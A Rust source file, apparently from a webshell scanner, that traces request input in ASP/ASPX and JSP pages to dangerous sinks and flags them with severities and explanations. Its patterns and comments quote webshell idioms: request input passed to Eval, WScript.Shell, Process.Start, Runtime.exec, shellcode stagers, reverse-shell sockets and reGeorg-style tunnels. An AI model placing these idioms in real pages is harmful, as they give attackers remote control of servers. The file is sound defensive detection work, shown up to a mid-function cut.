//! Request input followed to where ASP and JSP pages use it. A variable filled from the request
//! carries the input along (`x1 = request("h")`, `x2 = x1`, `eval x2`), so a shell that splits
//! its one line over three is still one flow. Each flow ends in a sink: code evaluation,
//! commands, reflection, or a file the request names or fills.

use crate::Hit;
use firewarden_model::Severity;

/// Where request input must not arrive.
struct Sink {
    /// Texts that mark the sink in a statement (lowercase).
    marks: &'static [&'static str],
    /// Only when the file also holds one of these (empty: always).
    file_needs: &'static [&'static str],
    id: &'static str,
    severity: Severity,
    title: &'static str,
    why: &'static str,
    /// The input must be the sink's first argument itself (`eval x`, `CreateTextFile(path,…)`),
    /// not part of a longer expression: CMS code builds a call name or a path from a request
    /// parameter and literals (`Execute "Call " & action & "()"`, `MapPath("tpl/" & f)`).
    bare: bool,
}

pub(crate) const ASP_INPUT: &[&str] = &[
    "request(",
    "request (",
    "request.form",
    "request.querystring",
    "request.item",
    "request.cookies",
    "request.params",
    "request.binaryread",
    // The raw body: `Request.InputStream.Read(buf, 0, n)`.
    "request.inputstream",
    "request[",
    // Headers: `Request.Headers["X-Cmd"]`, `Request.ServerVariables("HTTP_X_CODE")`.
    "request.headers",
    "request.servervariables(\"http_",
];

const ASP_SINKS: &[Sink] = &[
    Sink {
        // JScript's `new Function(code)` compiles its argument the way `eval` does.
        marks: &["eval", "execute", "executeglobal", "new function("],
        file_needs: &[],
        id: "scan.heuristic.asp_eval",
        severity: Severity::Critical,
        title: "ASP(X) evaluates request input",
        why: "evaluates it as code (Eval/Execute): whoever sends the request chooses what the server runs",
        bare: true,
    },
    Sink {
        // MSScriptControl: `o.AddCode(Request("c"))` compiles the request as script.
        marks: &[
            ".addcode(",
            ".addcode ",
            ".executestatement(",
            ".executestatement ",
        ],
        file_needs: &["scriptcontrol"],
        id: "scan.heuristic.asp_eval",
        severity: Severity::Critical,
        title: "ASP(X) evaluates request input",
        why: "hands it to a ScriptControl as code (AddCode/ExecuteStatement): whoever sends the request chooses what the server runs",
        bare: false,
    },
    Sink {
        marks: &[
            ".exec(",
            ".exec ",
            ".run(",
            ".run ",
            "process.start(",
            "processstartinfo(",
            ".arguments",
            // An object initialiser: `new Process { StartInfo = { Arguments = "/c " + c } }`.
            " arguments =",
            "{arguments =",
            ".shellexecute",
            // .NET late binding: `t.InvokeMember("Run", …, sh, new object[]{ cmd })`,
            // VB's `CallByName(sh, "Exec", CallType.Method, cmd)`.
            ".invokemember(",
            "callbyname(",
        ],
        // The shells by name, or by class id in a server-side `<object classid=…>`.
        file_needs: &[
            "wscript.shell",
            "processstartinfo",
            "process.start(",
            // `p.StartInfo.Arguments = …; p.Start()` on a `new Process()`, or set in an
            // object initialiser.
            ".startinfo.",
            "startinfo = {",
            "startinfo={",
            "shell.application",
            // Reflection on the process class: `Type.GetType("System.Diagnostics.Process")
            // .InvokeMember("Start", …)`.
            "diagnostics.process\"",
            "72c24dd5-d70a-438b-8a42-98424b88afb8",
            "f935dc22-1cf0-11d0-adb9-00c04fd58a0b",
            "13709620-c279-11ce-a49e-444553540000",
        ],
        id: "scan.heuristic.asp_exec",
        severity: Severity::Critical,
        title: "ASP(X) runs commands from the request",
        why: "hands it to a command shell (WScript.Shell, Shell.Application, Process.Start)",
        bare: false,
    },
    Sink {
        // A shell started with no command and fed one on its standard input:
        // `Set e = sh.Exec("cmd.exe"): e.StdIn.WriteLine Request("c")`,
        // `p.StandardInput.WriteLine(Request.Form["c"])`.
        marks: &[".stdin.write", ".standardinput.write"],
        file_needs: &["cmd.exe", "\"cmd\"", "powershell", "/bin/sh", "/bin/bash"],
        id: "scan.heuristic.asp_exec",
        severity: Severity::Critical,
        title: "ASP(X) runs commands from the request",
        why: "writes it to the standard input of a command shell the page started, which runs it",
        bare: false,
    },
    Sink {
        // `Assembly.LoadFrom(Request["dll"])`: a .NET library the attacker uploaded, loaded.
        marks: &["assembly.loadfrom(", "assembly.loadfile("],
        file_needs: &[],
        id: "scan.heuristic.asp_assembly",
        severity: Severity::Critical,
        title: "ASPX loads the .NET assembly the request names",
        why: "loads a .NET assembly from exactly that path into the site: code the attacker uploaded runs inside the worker process",
        bare: true,
    },
    Sink {
        // .NET reflection: `Type.GetType(Request["t"])`, `t.GetMethod(Request["m"])`,
        // `Activator.CreateInstance(…)` of a type the request names.
        marks: &[
            "type.gettype(",
            ".getmethod(",
            "activator.createinstance(",
            ".invokemember(",
        ],
        file_needs: &[],
        id: "scan.heuristic.asp_reflection",
        severity: Severity::High,
        title: "ASPX picks a .NET type or method by the request's name",
        why: "uses it to choose a type or method by reflection: the request chooses what code runs",
        bare: true,
    },
    Sink {
        // VBScript's `GetRef(Request("f"))`: a reference to the page's function of that name.
        marks: &["getref(", "getref "],
        file_needs: &[],
        id: "scan.heuristic.asp_reflection",
        severity: Severity::High,
        title: "ASP calls the function the request names",
        why: "looks up a function by that name (GetRef) to call it: the request chooses what code runs",
        bare: true,
    },
    Sink {
        // VB.NET's own `Shell(cmd, style)`, as a call, not a variable named `shell`.
        marks: &[" shell(", "=shell(", "(shell(", "interaction.shell("],
        file_needs: &["language=\"vb\"", "language=vb "],
        id: "scan.heuristic.asp_exec",
        severity: Severity::Critical,
        title: "ASP(X) runs commands from the request",
        why: "hands it to VB.NET's Shell(), which starts it as a program",
        bare: false,
    },
    Sink {
        // .NET deserialisers that build any type the stream names, fed the request:
        // `new BinaryFormatter().Deserialize(…Request.Form["d"]…)`, `XamlReader.Parse(…)`.
        marks: &[".deserialize(", "xamlreader.parse(", "xamlreader.load("],
        file_needs: &[
            "binaryformatter",
            "losformatter",
            "objectstateformatter",
            "soapformatter",
            "netdatacontractserializer",
            "xamlreader",
        ],
        id: "scan.heuristic.asp_deserialize",
        severity: Severity::High,
        title: "ASPX deserialises request data into any .NET type",
        why: "deserialises it with a formatter that builds whatever types the data names: a gadget chain in the request runs code (ysoserial.net)",
        bare: false,
    },
    Sink {
        // `s.RegWrite "HKLM\…\Run\x", Request("v")`: autoruns, services, RDP settings.
        marks: &[".regwrite ", ".regwrite(", ".setvalue("],
        file_needs: &["wscript.shell", "microsoft.win32", "registry."],
        id: "scan.heuristic.asp_registry",
        severity: Severity::High,
        title: "ASP(X) writes the registry with request input",
        why: "writes it into the registry: an autorun, a service or a remote-desktop setting of the attacker's choosing",
        bare: false,
    },
    Sink {
        // `new WebClient().DownloadFile(Request["u"], path)`: a second stage fetched on request.
        marks: &["downloadfile("],
        file_needs: &[],
        id: "scan.heuristic.asp_write",
        severity: Severity::High,
        title: "ASP(X) downloads the URL the request names to disk",
        why: "saves what that URL returns as a file on the server: a second stage fetched and planted on request",
        bare: true,
    },
    Sink {
        // ASPXSpy's registry browser: a key opened where the request says.
        marks: &["opensubkey(", "regread(", "regread "],
        file_needs: &[],
        id: "scan.heuristic.asp_registry",
        severity: Severity::Medium,
        title: "ASP(X) reads the registry key the request names",
        why: "opens exactly that registry key: a browser of the server's registry (services, stored passwords, autoruns)",
        bare: true,
    },
    Sink {
        // WMI: `GetObject("winmgmts:").Get("Win32_Process").Create cmd`, or .NET's
        // `inParams["CommandLine"] = cmd` for `InvokeMethod("Create", …)`.
        marks: &[".create(", ".create ", "\"commandline\""],
        file_needs: &["win32_process"],
        id: "scan.heuristic.asp_exec",
        severity: Severity::Critical,
        title: "ASP(X) runs commands from the request",
        why: "hands it to WMI's Win32_Process.Create, which starts it as a process",
        bare: false,
    },
    Sink {
        // .NET compilers and evaluators: JScript.NET's `Eval.JScriptEvaluate`, CodeDom.
        marks: &["jscriptevaluate(", "compileassemblyfromsource("],
        file_needs: &[],
        id: "scan.heuristic.asp_eval",
        severity: Severity::Critical,
        title: "ASP(X) evaluates request input",
        why: "compiles or evaluates it as .NET code (JScriptEvaluate, CompileAssemblyFromSource): whoever sends the request chooses what the server runs",
        bare: false,
    },
    Sink {
        // `XslCompiledTransform.Load(…request…, new XsltSettings(true, true), …)`: a
        // stylesheet with scripts enabled runs the C# in its `msxsl:script` blocks.
        marks: &[".load("],
        file_needs: &[
            "xsltsettings(true",
            "enablescript = true",
            "enablescript=true",
            "xsltsettings.trustedxslt",
        ],
        id: "scan.heuristic.asp_xslt_exec",
        severity: Severity::Critical,
        title: "ASP(X) runs an XSLT stylesheet from the request with scripts enabled",
        why: "loads it as an XSLT stylesheet with script blocks enabled: the C# or JScript in the stylesheet runs on the server",
        bare: false,
    },
    Sink {
        // reGeorg-style tunnels: a socket opened to the host and port the request names, the
        // request body forwarded into it.
        marks: &[".connect(", "tcpclient("],
        file_needs: &["system.net.sockets", "new socket(", "tcpclient("],
        id: "scan.heuristic.asp_tunnel",
        severity: Severity::High,
        title: "ASP(X) connects to the host the request names",
        why: "opens a network connection to that host and port: a tunnel (reGeorg, Neo-reGeorg) through the web server into the network behind it",
        bare: false,
    },
    Sink {
        // A connection string as sent: `new SqlConnection(Request["cs"])`,
        // `conn.Open Request("conn")`. Installers build theirs from the form's fields.
        marks: &[
            "new sqlconnection(",
            "new oledbconnection(",
            "new odbcconnection(",
            ".connectionstring =",
            ".connectionstring=",
            ".activeconnection =",
            ".activeconnection=",
            ".open(",
            ".open ",
        ],
        file_needs: &[
            "adodb.connection",
            "adodb.command",
            "sqlconnection",
            "oledbconnection",
            "odbcconnection",
        ],
        id: "scan.heuristic.asp_db_client",
        severity: Severity::Medium,
        title: "ASP(X) connects with the connection string the request sends",
        why: "opens a database connection with exactly that connection string: a client for any database server the web server can reach",
        bare: true,
    },
    Sink {
        // PowerShell hosted in the page: `PowerShell.Create().AddScript(…)`, a runspace's
        // pipeline.
        marks: &[".addscript(", ".addcommand("],
        file_needs: &["management.automation"],
        id: "scan.heuristic.asp_exec",
        severity: Severity::Critical,
        title: "ASP(X) runs commands from the request",
        why: "hands it to PowerShell hosted in the page (AddScript/AddCommand)",
        bare: false,
    },
    Sink {
        // Reads: `ReadAllText(Request["f"])`, `Response.WriteFile(path)`, a stream loaded
        // from the path as sent.
        marks: &[
            "readalltext(",
            "readallbytes(",
            "readalllines(",
            ".writefile(",
            ".writefile ",
            ".transmitfile(",
            // Listings and deletions: a file manager of the whole disk.
            "directory.getfiles(",
            "directory.getdirectories(",
            "directory.getfilesystementries(",
            // `new DirectoryInfo(d).GetFiles()`: the same listing through the object.
            "new directoryinfo(",
            "directory.delete(",
            "file.delete(",
        ],
        file_needs: &[],
        id: "scan.heuristic.asp_file_path",
        severity: Severity::Medium,
        title: "ASP(X) opens the file the request names",
        why: "opens a file at exactly that path: a reader of any file on the server",
        bare: true,
    },
    Sink {
        // A stream loaded from the path as sent, in a page that sends streams to the browser:
        // a download of any file. (A CMS unpacker loads the archive an admin names, and shows
        // nothing of it.)
        marks: &[".loadfromfile(", ".loadfromfile "],
        file_needs: &["binarywrite"],
        id: "scan.heuristic.asp_file_path",
        severity: Severity::Medium,
        title: "ASP(X) sends the file the request names",
        why: "loads a file from exactly that path into a stream, and the page writes streams to the browser: a download of any file on the server",
        bare: true,
    },
    Sink {
        marks: &[
            "createtextfile(",
            "createtextfile ",
            ".savetofile",
            "writealltext(",
            "writeallbytes(",
            "writealllines(",
            "appendalltext(",
            // `new StreamWriter(path, …)`, `File.CreateText(path)` open the file for writing.
            "streamwriter(",
            "file.createtext(",
            "file.create(",
            "file.openwrite(",
            // An uploaded file (`HttpPostedFile.SaveAs`) kept where the request says.
            ".saveas(",
        ],
        file_needs: &[],
        id: "scan.heuristic.asp_write",
        severity: Severity::High,
        title: "ASP(X) writes a file the request names",
        why: "writes a file at that path: an upload of any page anywhere, a webshell dropper",
        bare: true,
    },
    Sink {
        // `new FileStream(path, FileMode.Create)`, in a page that opens streams for writing.
        marks: &["filestream("],
        file_needs: &[
            "filemode.create",
            "filemode.append",
            "filemode.openorcreate",
            "filemode.truncate",
            "fileaccess.write",
        ],
        id: "scan.heuristic.asp_write",
        severity: Severity::High,
        title: "ASP(X) writes a file the request names",
        why: "writes a file at that path: an upload of any page anywhere, a webshell dropper",
        bare: true,
    },
];

const JSP_INPUT: &[&str] = &[
    "getparameter(",
    "getcookies(",
    "getparametervalues(",
    "getparametermap(",
    "request.getinputstream(",
    "request.getreader(",
    "getquerystring(",
    "request.getheader(",
];

const JSP_SINKS: &[Sink] = &[
    Sink {
        // Xalan runs Java from a stylesheet's extension functions.
        marks: &["newtransformer(", "newtemplates("],
        file_needs: &[],
        id: "scan.heuristic.jsp_xslt",
        severity: Severity::High,
        title: "JSP compiles an XSLT stylesheet from the request",
        why: "compiles it as an XSLT stylesheet: a stylesheet's extension functions run Java code and commands",
        bare: false,
    },
    Sink {
        marks: &[
            "new file(",
            "io.file(",
            "new fileinputstream(",
            "io.fileinputstream(",
            "new filereader(",
            "io.filereader(",
            "paths.get(",
        ],
        file_needs: &[],
        id: "scan.heuristic.jsp_file_path",
        severity: Severity::Medium,
        title: "JSP opens the file the request names",
        why: "opens a file at exactly that path: a browser of the server's files",
        bare: true,
    },
    Sink {
        // Script and expression languages embedded in the page: Groovy, SpEL, OGNL, the EL
        // processor, BeanShell, JSR-223 engines, MVEL.
        marks: &[
            ".evaluate(",
            ".parseexpression(",
            "ognl.getvalue(",
            "ognl.parseexpression(",
            ".eval(",
            "mvel.eval(",
            // Rhino: `cx.evaluateString(scope, code, …)`.
            ".evaluatestring(",
        ],
        file_needs: &[
            "groovyshell",
            "expressionparser",
            "ognl",
            "elprocessor",
            "bsh.interpreter",
            "scriptengine",
            "mvel",
            "org.mozilla.javascript",
        ],
        id: "scan.heuristic.jsp_script_engine",
        severity: Severity::Critical,
        title: "JSP evaluates request input as code",
        why: "evaluates it as script or expression-language code (Groovy, SpEL, OGNL, EL, BeanShell, a script engine): whoever sends the request chooses what runs",
        bare: false,
    },
    Sink {
        marks: &[
            "system.load(",
            "system.loadlibrary(",
            "runtime().load(",
            "runtime().loadlibrary(",
        ],
        file_needs: &[],
        id: "scan.heuristic.jsp_reflection_exec",
        severity: Severity::Critical,
        title: "JSP loads a native library the request names",
        why: "loads a native library from that path into the server: code the attacker uploaded runs inside the JVM",
        bare: false,
    },
    Sink {
        marks: &[".lookup("],
        file_needs: &["initialcontext"],
        id: "scan.heuristic.jsp_jndi",
        severity: Severity::High,
        title: "JSP looks up the JNDI name the request gives",
        why: "looks it up as a JNDI name: an LDAP/RMI address of the attacker's hands back objects that run code (JNDI injection)",
        bare: true,
    },
    Sink {
        // reGeorg-style tunnels: `socketChannel.connect(new InetSocketAddress(target, port))`,
        // `new Socket(host, port)` with the host from the request.
        marks: &[".connect(", "new socket(", "net.socket("],
        file_needs: &["socketchannel", "new socket(", "net.socket("],
        id: "scan.heuristic.jsp_tunnel",
        severity: Severity::High,
        title: "JSP connects to the host the request names",
        why: "opens a network connection to that host and port: a tunnel (reGeorg, Neo-reGeorg) through the web server into the network behind it",
        bare: false,
    },
    Sink {
        // A JDBC URL as sent: a client for any database the server can reach.
        marks: &["drivermanager.getconnection("],
        file_needs: &[],
        id: "scan.heuristic.jsp_db_client",
        severity: Severity::Medium,
        title: "JSP connects to the database the request names",
        why: "opens a JDBC connection to exactly that URL: a client for any database server the web server can reach",
        bare: true,
    },
    Sink {
        // `st.executeQuery(request.getParameter("sql"))`: the SQL as the request sent it, a
        // client for the page's database (the database tab of a webshell, a dumper).
        marks: &[
            ".executequery(",
            ".executeupdate(",
            ".executelargeupdate(",
            ".addbatch(",
            ".preparestatement(",
        ],
        file_needs: &["java.sql", "jdbc", "datasource"],
        id: "scan.heuristic.jsp_db_client",
        severity: Severity::Medium,
        title: "JSP runs the SQL the request sends",
        why: "runs it as SQL, as sent: a client for the page's database (the database tab of a webshell, a dumper)",
        bare: true,
    },
    Sink {
        marks: &[".exec(", "processbuilder(", ".command("],
        file_needs: &["getruntime", "processbuilder"],
        id: "scan.heuristic.jsp_exec",
        severity: Severity::Critical,
        title: "JSP runs commands from the request",
        why: "starts operating-system commands with it (Runtime.exec / ProcessBuilder)",
        bare: false,
    },
    Sink {
        marks: &[
            "class.forname(",
            ".getmethod(",
            ".getdeclaredmethod(",
            ".loadclass(",
            "urlclassloader(",
            ".defineclass(",
            // java.lang.invoke: `lookup().findVirtual(cls, name, type)`.
            ".findvirtual(",
            ".findstatic(",
        ],
        file_needs: &[],
        id: "scan.heuristic.jsp_reflection_exec",
        severity: Severity::Critical,
        title: "JSP loads classes or methods the request names",
        why: "uses it to pick a class or method by reflection: the request chooses what runs",
        bare: false,
    },
    Sink {
        // `ToolProvider.getSystemJavaCompiler()`: source the request sent, written out or
        // handed over in memory, then compiled and loaded.
        marks: &[".write(", ".print(", ".println(", ".gettask(", ".run("],
        file_needs: &["getsystemjavacompiler"],
        id: "scan.heuristic.jsp_compile",
        severity: Severity::Critical,
        title: "JSP compiles Java source from the request",
        why: "hands it to the Java compiler the page loads (ToolProvider.getSystemJavaCompiler): source sent in the request is compiled and run inside the server",
        bare: false,
    },
    Sink {
        // Constructors, so also `new java.io.FileOutputStream(`.
        marks: &[
            "fileoutputstream(",
            "filewriter(",
            "randomaccessfile(",
            "printwriter(new file",
            "files.write(",
            "files.copy(",
            // java.util.logging: a log file the request names, a log line it fills.
            "filehandler(",
        ],
        file_needs: &[],
        id: "scan.heuristic.jsp_write",
        severity: Severity::High,
        title: "JSP writes a file the request names or fills",
        why: "writes it to a file on the server: an upload of any page, a webshell dropper",
        bare: false,
    },
];

/// ASP/ASPX flows; `t` is the lowercased page.
pub(crate) fn asp(t: &str, hits: &mut Vec<Hit>) {
    // Input parked in the session (`Session("k") = Request("x")`) comes back as input.
    let parks = t.match_indices("session(").take(1000).any(|(p, _)| {
        let line = crate::heuristics::near(&t[p..], 4096)
            .split(['\n', ':'])
            .next()
            .unwrap_or("");
        line.split_once('=')
            .is_some_and(|(_, rhs)| ASP_INPUT.iter().any(|i| rhs.trim_start().starts_with(i)))
    });
    let mut inputs = ASP_INPUT.to_vec();
    if parks {
        inputs.push("session(");
    }
    let controls = server_controls(t);
    inputs.extend(controls.iter().map(String::as_str));
    let wrappers = vbs_wrappers(t, ASP_SINKS);
    let parameters = web_method_parameters(t);
    follow(
        t,
        &inputs,
        &parameters,
        ASP_SINKS,
        &wrappers,
        &[':', '\n', ';'],
        hits,
    );
    if !reported(hits, "scan.heuristic.asp_eval") {
        decoded_execute(t, &wrappers, hits);
    }
    if !reported(hits, "scan.heuristic.asp_eval") {
        request_code_text(t, hits);
    }
    if !hits
        .iter()
        .any(|h| h.check.starts_with("scan.heuristic.asp_eval"))
    {
        chr_assembly(t, hits);
    }
    page_drop(t, hits);
    if !reported(hits, "scan.heuristic.asp_eval") {
        stored_code(t, hits);
    }
    if !reported(hits, "scan.heuristic.asp_eval") {
        remote_scriptlet(t, hits);
    }
    // A write at the request's path already says the page works where the request says.
    if !reported(hits, "scan.heuristic.asp_file_path")
        && !reported(hits, "scan.heuristic.asp_write")
    {
        disk_path(t, hits);
    }
    native_and_socket_shells(t, hits);
}

/// ASP.NET pages that leave the web shell's request-response loop: bytes run as machine code
/// through the Windows API (`VirtualAlloc` then `CreateThread`: a Cobalt Strike or Meterpreter
/// stager), an assembly loaded through a reflected `Assembly.Load`, or a shell process wired
/// to a socket (a reverse shell).
fn native_and_socket_shells(t: &str, hits: &mut Vec<Hit>) {
    use crate::heuristics::find;
    // Each check is looked for only where its first mark is in the page: most pages hold none.
    let shellcode = find(t, "dllimport")
        .and_then(|_| find(t, "virtualalloc"))
        .filter(|_| {
            [
                "createthread",
                "getdelegateforfunctionpointer",
                "queueuserapc",
            ]
            .iter()
            .any(|m| find(t, m).is_some())
        });
    if let Some(p) = shellcode {
        hits.push(Hit {
            check: "scan.heuristic.asp_shellcode",
            severity: Severity::Critical,
            title: "ASPX runs machine code it carries or receives".into(),
            why: "the page imports VirtualAlloc and starts a thread (or calls a pointer) in the memory it allocates: a shellcode stager (Cobalt Strike, Meterpreter) inside the web server's process".into(),
            attack: vec!["T1505.003".into(), "T1055".into()],
            offset: Some(p),
            rule: None,
        });
    }
    // `typeof(Assembly).GetMethod("Load", …).Invoke(null, new object[] { bytes })`: Assembly.Load
    // called by reflection so that no signature sees it (Godzilla's ASPX loader).
    let hidden_load = ["typeof(system.reflection.assembly)", "typeof(assembly)"]
        .iter()
        .find_map(|m| find(t, m))
        .filter(|&p| crate::heuristics::near(&t[p..], 256).contains(".getmethod(\"load\""));
    if let Some(p) = hidden_load {
        hits.push(Hit {
            check: "scan.heuristic.asp_assembly",
            severity: Severity::Critical,
            title: "ASPX loads a .NET assembly through reflection".into(),
            why: "the page looks up `Assembly.Load` by name and invokes it: a .NET assembly from bytes it holds or receives runs inside the worker process, the call hidden from signatures".into(),
            attack: vec!["T1505.003".into(), "T1620".into()],
            offset: Some(p),
            rule: None,
        });
    }
    let socket = find(t, "getstream()").and_then(|_| {
        ["tcpclient(", "new socket("]
            .iter()
            .find_map(|m| find(t, m))
    });
    if let Some(p) = socket
        && find(t, "redirectstandardinput").is_some()
        && find(t, "startinfo").is_some()
    {
        hits.push(Hit {
            check: "scan.heuristic.asp_reverse_shell",
            severity: Severity::Critical,
            title: "ASPX wires a process to a network socket".into(),
            why: "the page opens a socket and starts a process with its standard input redirected, and copies between them: a reverse or bind shell".into(),
            attack: vec!["T1505.003".into(), "T1059".into()],
            offset: Some(p),
            rule: None,
        });
    }
}

/// `obj.Write x`, `obj.WriteText(x)`, `dict.Add "k", x` as statement `s`: the object written
/// to (not `Response`) and the text of what is written.
fn stream_write(s: &str) -> Option<(&str, &str)> {
    // The statement without the `:` or newline that ends it.
    let s = s.trim().trim_end_matches([':', ';']);
    let name_len = s.find(|c: char| !is_ident(c))?;
    let (object, rest) = s.split_at(name_len);
    // A dictionary's `d.Add "k", value` keeps the value, its second argument.
    let arg = match rest.strip_prefix(".add") {
        Some(args) if args.starts_with([' ', '(']) => &args[args.find(',')? + 1..],
        _ => [".writetext", ".write"]
            .iter()
            .find_map(|m| rest.strip_prefix(m))
            .filter(|a| a.starts_with([' ', '(']))?,
    };
    (!object.is_empty() && object != "response").then_some((object, arg))
}

/// The object of a statement that puts something into it, and what each call puts:
/// `sb.append(…)` (and chained `.append`s), `list.add(…)`, `map.put(k, …)`,
/// `sb.Insert(i, …)`. Not the page's output (`out`, `response`) or a log.
fn filled_container(s: &str) -> Option<(&str, impl Iterator<Item = &str>)> {
    const FILLS: &[&str] = &[
        ".append(",
        ".appendline(",
        ".appendformat(",
        ".add(",
        ".addall(",
        ".put(",
        ".insert(",
    ];
    let s = s.trim_start_matches(|c: char| c.is_whitespace() || c == '{' || c == '}');
    let name_len = s.find(|c: char| !is_ident(c))?;
    let (object, rest) = s.split_at(name_len);
    let fills = FILLS.iter().any(|m| rest.starts_with(m))
        && !object.is_empty()
        && !["out", "response", "writer", "log", "logger", "system"].contains(&object);
    // The value of each call of the chain, at most 16: after the key or index of `put` and
    // `insert`, which are not what is kept.
    let values = FILLS
        .iter()
        .flat_map(move |m| rest.match_indices(m).take(16))
        .filter_map(|(p, m)| {
            let arg = &rest[p + m.len()..];
            if m == ".put(" || m == ".insert(" {
                let arg = crate::heuristics::near(arg, 256);
                arg.find(',').map(|c| &arg[c + 1..])
            } else {
                Some(arg)
            }
        });
    fills.then_some((object, values))
}

/// Whether VBScript line `s` goes on on the next line: it ends in `_` after a space.
fn continued(s: &str) -> bool {
    s.trim_end()
        .strip_suffix('_')
        .is_some_and(|r| r.ends_with([' ', '\t']))
}

/// Whether a check of this id has already hit the page.
fn reported(hits: &[Hit], check: &str) -> bool {
    hits.iter().any(|h| h.check == check)
}

/// The line that starts at the start of `s`, within 1 KiB: a call read to its line's end
/// where a `:` inside a literal (`"script:"`, `"d:\"`) is not the statement's end.
fn line_of(s: &str) -> &str {
    let near = crate::heuristics::near(s, 1024);
    &near[..near.find('\n').unwrap_or(near.len())]
}

/// FileSystemObject calls that work on a disk path.
const FSO_PATH_CALLS: &[&str] = &[
    ".copyfile",
    ".copyfolder",
    ".movefile",
    ".movefolder",
    ".deletefile",
    ".deletefolder",
    ".getfolder",
    ".getfile",
    ".opentextfile",
    ".createfolder",
    ".createtextfile",
];

/// `FSO.CopyFolder Request("from") & "*", "d:\"`: a FileSystemObject call whose path starts
/// with the request's text as sent, not passed through `Server.MapPath`. Such a path is a
/// path on the disk, not in the site: a manager of any file on the server. Site code maps
/// what the visitor sends into the site first (`MapPath(Request("f"))`).
fn disk_path(t: &str, hits: &mut Vec<Hit>) {
    if !FSO_PATH_CALLS.iter().any(|c| t.contains(c)) {
        return;
    }
    // `p = Request("p")`, `p = Trim(Request("path"))`: variables that hold the request's
    // text as sent (not mapped), forgotten when set to anything else (`p = Server.MapPath(p)`).
    // Read in the page's order; a branch that maps it (`If … Then p = MapPath(p)`) is not
    // followed, so only listings are read this way.
    let as_sent = |rhs: &str| {
        let rhs = rhs.trim_start();
        let rhs = ["trim(", "cstr(", "lcase(", "replace("]
            .iter()
            .find_map(|w| rhs.strip_prefix(w))
            .unwrap_or(rhs);
        ASP_INPUT.iter().any(|i| rhs.starts_with(i)) && !rhs.contains("mappath")
    };
    // Through a variable, only a folder opened to be listed: a browser of the disks. Backup
    // pages copy a database to a folder an admin's form names as well.
    let browses = t.contains(".getfolder") && (t.contains(".subfolders") || t.contains(".files"));
    let mut held: Vec<&str> = Vec::new();
    let mut at = 0;
    for (n, stmt) in t.split_inclusive(['\n', ':']).enumerate() {
        let here = at;
        at += stmt.len();
        if n >= 200_000 {
            break;
        }
        let trimmed = stmt.trim_start();
        if let Some((var, rhs)) = assignment(trimmed)
            && !trimmed.starts_with("if ")
        {
            if as_sent(rhs) {
                if held.len() < 64 && !held.contains(&var) {
                    held.push(var);
                }
            } else {
                held.retain(|h| *h != var);
            }
        }
        for call in FSO_PATH_CALLS {
            let Some(p) = stmt.find(call) else { continue };
            let rest = &stmt[p + call.len()..];
            if !rest.starts_with([' ', '(']) {
                continue;
            }
            let starts_with_input =
                line_of(&t[here + p + call.len()..])
                    .split(',')
                    .take(3)
                    .any(|arg| {
                        let arg = arg.trim_start_matches([' ', '(']);
                        ASP_INPUT.iter().any(|i| arg.starts_with(i))
                            || browses
                                && *call == ".getfolder"
                                && held.iter().any(|h| {
                                    arg.strip_prefix(h).is_some_and(|r| {
                                        !r.starts_with(is_ident) && !r.starts_with('(')
                                    })
                                })
                    });
            if starts_with_input {
                hits.push(crate::heuristics::hit(
                    "scan.heuristic.asp_file_path",
                    Severity::Medium,
                    "ASP works on a disk path the request names",
                    format!("`{}` is given a path that starts with request input as sent, not mapped into the site with Server.MapPath: a manager of any file on the server's disks", call.trim_start_matches('.')),
                    here + p,
                ));
                return;
            }
        }
    }
}

/// `GetObject("script:" & Request("u"))`: a Windows Script Component fetched from the address
/// the request gives and run. (Read by line: the `:` inside the literal is not a statement's
/// end here.)
fn remote_scriptlet(t: &str, hits: &mut Vec<Hit>) {
    for (p, _) in t.match_indices("getobject(\"script:").take(100) {
        let line = line_of(&t[p..]);
        if let Some(input) = ASP_INPUT.iter().find(|i| line.contains(**i)) {
            hits.push(crate::heuristics::hit(
                "scan.heuristic.asp_eval",
                Severity::Critical,
                "ASP(X) evaluates request input",
                format!("`GetObject(\"script:…\")` fetches and runs a script component from an address built from request input (`{input}…`): whoever sends the request chooses the code the server runs"),
                p,
            ));
            return;
        }
    }
}

/// The parameters of an ASMX web service's `[WebMethod]`s (VB: `<WebMethod()>`): each is
/// filled from the request by ASP.NET, so each is request input.
fn web_method_parameters(t: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for mark in ["[webmethod", "<webmethod"] {
        for (p, _) in t.match_indices(mark).take(64) {
            let rest = crate::heuristics::near(&t[p + mark.len()..], 1024);
            // The attribute's own `(…)` (VB `<WebMethod()>`) comes before the method's.
            let Some(close) = rest.find([']', '>']) else {
                continue;
            };
            let signature = &rest[close..];
            let Some(open) = signature.find('(') else {
                continue;
            };
            let params = &signature[open + 1..];
            let params = &params[..params.find(')').unwrap_or(params.len())];
            for param in params.split(',') {
                // C# `string c`, VB `ByVal c As String`.
                let param = param.split(" as ").next().unwrap_or(param);
                if let Some(name) = param.split_whitespace().last()
                    && name.chars().all(is_ident)
                    && !name.starts_with(|c: char| c.is_ascii_digit())
                    && out.len() < 64
                {
                    out.push(name);
                }
            }
        }
    }
    out
}

/// ASP.NET form controls of the page and the property that holds what the visitor typed:
/// `<asp:TextBox ID="txtCmd" runat="server"/>` makes `txtCmd.Text` request input, as
/// `<input id="p" runat="server">` makes `p.Value`.
fn server_controls(t: &str) -> Vec<String> {
    const CONTROLS: &[(&str, &str, bool)] = &[
        ("<asp:textbox", ".text", false),
        ("<asp:hiddenfield", ".value", false),
        ("<input", ".value", true),
        ("<textarea", ".value", true),
    ];
    let mut out = Vec::new();
    for (tag, property, needs_runat) in CONTROLS {
        for (p, _) in t.match_indices(tag).take(64) {
            let rest = crate::heuristics::near(&t[p + tag.len()..], 1024);
            let attrs = &rest[..rest.find('>').unwrap_or(rest.len())];
            if *needs_runat
                && !attrs.contains("runat=\"server\"")
                && !attrs.contains("runat=server")
            {
                continue;
            }
            let Some(id) = attrs
                .match_indices("id=")
                .find(|(i, _)| attrs[..*i].ends_with([' ', '\t', '\n', '\r']))
                .map(|(i, _)| attrs[i + 3..].trim_start_matches(['"', '\'']))
                .map(|v| &v[..v.find(|c: char| !is_ident(c)).unwrap_or(v.len())])
            else {
                continue;
            };
            if !id.is_empty() && out.len() < 64 {
                out.push(format!("{id}{property}"));
            }
        }
    }
    out
}

/// `Execute(Session("k"))`, `ExecuteGlobal Application("c")`: code kept in the session or
/// application state, put there on an earlier request (decoded, downloaded or sent), and run
/// on every later one. Pages keep settings and user data there, not code.
fn stored_code(t: &str, hits: &mut Vec<Hit>) {
    for store in ["session(", "application("] {
        for (p, _) in t.match_indices(store).take(1000) {
            let before = t[..p].trim_end().trim_end_matches('(').trim_end();
